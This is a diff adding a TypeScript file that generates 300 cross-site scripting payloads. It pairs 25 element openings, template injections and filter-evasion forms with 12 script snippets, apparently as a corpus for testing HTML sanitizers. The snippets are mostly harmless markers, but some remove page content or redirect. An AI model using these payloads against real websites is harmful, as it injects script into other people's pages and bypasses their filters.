@@ -1,0 +1,45 @@
+// 300 texts that try to become markup: every way of opening an element, with every way of running something in it.
+
+const openings = [
+  (run: string) => `<img src=x onerror=${run}>`,
+  (run: string) => `<svg onload=${run}></svg>`,
+  (run: string) => `<script>${run}</script>`,
+  (run: string) => `"><script>${run}</script>`,
+  (run: string) => `'><b onclick='${run}'>x</b>`,
+  (run: string) => `</bdi></li><li onmouseover=${run}>`,
+  (run: string) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
+  (run: string) => `<a href="javascript:${run}">x</a>`,
+  (run: string) => `<details open ontoggle=${run}><summary>x</summary></details>`,
+  (run: string) => `<style>*{background:url("javascript:${run}")}</style>`,
+  (run: string) => `<input autofocus onfocus=${run}>`,
+  (run: string) => `<form action=javascript:${run}><button>x</button></form>`,
+  (run: string) => `<object data="javascript:${run}"></object>`,
+  (run: string) => `<base href="javascript:${run}//">`,
+  (run: string) => `<template><img src=x onerror=${run}></template>`,
+  (run: string) => `&lt;img src=x onerror=${run}&gt;`,
+  (run: string) => `&#60;script&#62;${run}&#60;/script&#62;`,
+  (run: string) => `<!--><img src=x onerror=${run}>-->`,
+  (run: string) => `<math><mtext></p><img src=x onerror=${run}></mtext></math>`,
+  (run: string) => `{{constructor.constructor('${run}')()}}`,
+  (run: string) => `\${${run}}`,
+  (run: string) => `$1 $amount$ ${run}`,
+  (run: string) => `__proto__[${run}]`,
+  (run: string) => `]]><x onx=${run}>`,
+  (run: string) => `<ScRiPt\n>${run}</sCrIpT\t>`,
+];
+const runs = [
+  'alert(1)',
+  'alert`1`',
+  'top[/al/.source+/ert/.source](2)',
+  'document.body.remove()',
+  'location=1',
+  'opener.x=1',
+  'globalThis.hit=1',
+  'import(0)',
+  'eval(name)',
+  'setTimeout(x)',
+  'parent.postMessage(1)',
+  'window.stolen=1',
+];
+
+export const payloads: string[] = openings.flatMap((open) => runs.map(open));
